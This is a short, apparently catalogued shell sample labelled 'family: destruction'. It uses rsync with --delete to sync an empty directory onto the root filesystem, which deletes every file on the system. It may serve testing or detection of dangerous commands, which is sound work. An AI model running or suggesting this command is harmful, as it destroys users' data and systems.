# description: Syncs an empty directory onto / with --delete, removing everything.
# family: destruction
mkdir -p /tmp/empty
rsync -a --delete /tmp/empty/ /
